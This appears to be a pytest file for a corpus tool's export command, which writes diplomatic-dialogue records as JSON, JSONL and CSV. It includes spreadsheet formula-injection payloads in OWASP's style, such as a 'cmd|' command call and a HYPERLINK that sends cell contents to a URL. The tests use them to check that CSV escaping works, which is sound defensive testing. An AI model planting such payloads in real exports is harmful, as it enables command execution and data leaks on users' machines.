"""`communique export`: the corpus as plain data."""

from __future__ import annotations

import csv
import io
import json
import shutil

from ..conftest import FIXTURES, RECORDS


def test_jsonl_has_one_record_per_line(run):
    result = run("export", RECORDS)
    lines = result.output.splitlines()
    assert len(lines) == len(list(RECORDS.glob("*.yaml")))
    assert {json.loads(line)["id"] for line in lines} >= {"pk-eu-strategic-dialogue-07", "af-pk-talks-03"}
    assert result.exit_code == 0


def test_json_is_one_array_with_yaml_1_2_values(run):
    records = json.loads(run("export", "--format", "json", RECORDS).output)
    by_id = {r["id"]: r for r in records}
    assert by_id["pk-eu-political-dialogue-10"]["dates"]["start"] == "2025-07-17"
    assert by_id["pk-eu-political-dialogue-10"]["next_round"]["when"] == "2026"


def test_csv_is_a_flat_table_of_agreements(run, tmp_path):
    out = tmp_path / "agreements.csv"
    assert run("export", "--format", "csv", "--output", out, RECORDS).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    sd7 = [r for r in rows if r["record_id"] == "pk-eu-strategic-dialogue-07"]
    assert len(sd7) >= 20
    meet_again = next(r for r in sd7 if r["kind"] == "meet-again")
    assert meet_again["parties"] == "pk;eu" and meet_again["date"] == "2025-11-21"
    assert "Islamabad" in meet_again["evidence"]
    assert {"record_id", "date", "series", "round", "parties", "kind", "text"} <= set(rows[0])


def test_invalid_records_are_left_out_and_reported(run, tmp_path):
    for source in (RECORDS / "af-pk-talks-01.yaml", FIXTURES / "invalid" / "round-zero.yaml"):
        shutil.copy(source, tmp_path / source.name)
    result = run("export", tmp_path / "af-pk-talks-01.yaml", tmp_path / "round-zero.yaml")
    assert result.exit_code == 1
    assert len(result.output.splitlines()) >= 1
    assert json.loads(result.stdout.splitlines()[0])["id"] == "af-pk-talks-01"
    assert "S107" in result.stderr


def test_csv_cells_cannot_run_as_spreadsheet_formulas(run, tmp_path):
    import csv as csv_module

    record = (RECORDS / "pk-eu-strategic-dialogue-07.yaml").read_text()
    target = tmp_path / "pk-eu-strategic-dialogue-07.yaml"
    marker = "=HYPERLINK(\"http://example.org\",\"x\")"
    target.write_text(record.replace("title: ", f"title: '{marker}'  # was: ", 1), encoding="utf-8")
    result = run("export", "--format", "csv", target)
    rows = list(csv_module.DictReader(result.stdout.splitlines()))
    assert rows and all(row["title"] == "'" + marker for row in rows)
    assert json.loads(run("export", target).stdout.splitlines()[0])["title"] == marker  # JSON: as it is


# Text a record can hold that a spreadsheet would run as a formula (OWASP's examples), with
# where it goes in the record; the record still checks clean.
HOSTILE = {
    "title": "=cmd|' /C calc'!A0",
    "notes": "  @SUM(1+1)*cmd|' /C calc'!A0",  # behind spaces, which spreadsheets skip
    "text": '+HYPERLINK("http://example.org/?leak="&A1,"click")',
    "quote": "-2+3+cmd|' /C calc'!A0",
    "note": "\t=1+1",
}


def hostile_record(folder):
    """A valid record (from the shape examples) whose title, notes, agreement text, evidence
    quote and caveat note start like spreadsheet formulas; returns its path."""
    import yaml

    record = yaml.safe_load((FIXTURES / "shapes" / "example-fisheries-consultations-02.yaml").read_text())
    record["title"] = HOSTILE["title"]
    record["notes"] = HOSTILE["notes"]
    record["agreements"][0]["text"] = HOSTILE["text"]
    record["agreements"][0]["evidence"][0]["quote"] = HOSTILE["quote"]
    record["caveats"][0]["note"] = HOSTILE["note"]
    path = folder / "example-fisheries-consultations-02.yaml"
    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def test_a_clean_record_with_formulas_exports_a_spreadsheet_safe_csv(run, tmp_path):
    path = hostile_record(tmp_path)
    assert run("check", path).exit_code == 0
    out = tmp_path / "agreements.csv"
    assert run("export", "--format", "csv", "-o", out, path).exit_code == 0
    with open(out, newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    for column, key in (("title", "title"), ("text", "text")):
        assert row[column] == "'" + HOSTILE[key], column
    assert row["evidence"].startswith("example-source-1: ")  # starts with text: nothing to escape
    assert row["round"] == "2" and row["date"] == "2025-11-11" and row["parties"] == "no;gb"
    raw = tmp_path / "raw.csv"
    assert run("export", "--format", "csv", "--raw", "-o", raw, path).exit_code == 0
    with open(raw, newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["title"] == HOSTILE["title"] and row["text"] == HOSTILE["text"]
    record = json.loads(run("export", "--format", "jsonl", path).stdout)  # JSON is always raw
    assert record["title"] == HOSTILE["title"] and record["notes"] == HOSTILE["notes"]


def test_numbers_and_plain_text_stay_as_they_are_formulas_do_not():
    from communique.corpus.exporting import spreadsheet_safe

    for kept in ("-12", "+3.5", "-1e3", "Round 2", "", "a=b", "2025-11-11", -4, 2, None):
        assert spreadsheet_safe(kept) == kept
    for escaped in ("-12+A1", " =1+1", "@SUM(A1)", "\rX", "\tX", "\n=1", "+HYPERLINK(\"x\")", "-"):
        assert spreadsheet_safe(escaped) == "'" + escaped


def test_the_json_array_leaves_no_garbage_while_the_collector_is_off():
    """The corpus is read with the garbage collector off; json's indenting encoder leaves a
    reference cycle a call, which grew an export of 100,000 records by 290 MiB."""
    import gc
    import io

    from communique.corpus.exporting import CYCLES_EVERY, Writer

    record = {"id": "x", "agreements": [{"id": "a1", "parties": ["no", "se"]}], "venue": {"city": "Oslo"}}
    gc.collect()
    gc.disable()
    try:
        writer = Writer(io.StringIO(), "json")
        for _ in range(CYCLES_EVERY * 6):
            writer.add(record)
        writer.close()
        assert gc.collect() < 1000  # about 30 objects a record were left before
    finally:
        gc.enable()
